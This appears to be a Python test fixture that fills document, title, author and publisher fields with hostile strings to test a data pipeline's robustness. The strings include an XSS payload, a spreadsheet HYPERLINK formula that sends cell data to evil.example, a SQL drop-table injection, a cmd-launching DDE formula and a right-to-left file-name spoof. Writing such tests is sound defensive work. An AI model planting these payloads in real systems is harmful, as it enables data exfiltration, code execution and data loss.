"""Text that means harm to a page, a spreadsheet, a shell, a database or a reader, as article, title, speaker, name and publisher."""

from dataclasses import replace

import polars as pl

from tests.warehouse.batches import Doc, tables

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "'; drop table articles; --",
    "\u202egnp.exe\u202c right to left",
    'back\\slash \\N \\. \t tab, "quotes", comma; $1 %s {x} ${y}',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 云端😀 e\u0301 \u200b\ufeff zero width",
    "x" * 10_000,
)


def documents() -> list[Doc]:
    return [
        Doc(
            f"h{number}.txt",
            f"{words} say GPT-3 cost OpenAI $5 million. | {words}",
            url=f"https://h{number}.example/?q='><b>",
            source=f"h{number}.example",
            claimant=words,
            publisher=words,
            figures=(("$5 million", {"value": 5e6, "subject": words}),),
            unlisted=((words, f"hostile-{number}", words, "product"),),
        )
        for number, words in enumerate(HOSTILE)
    ]


def tables_of(docs):
    """The rows of the articles, whose titles and authors are hostile too."""
    rows = tables(docs)
    words = pl.Series([doc.publisher for doc in docs])
    return replace(rows, articles=rows.articles.with_columns(title=words, author=words))
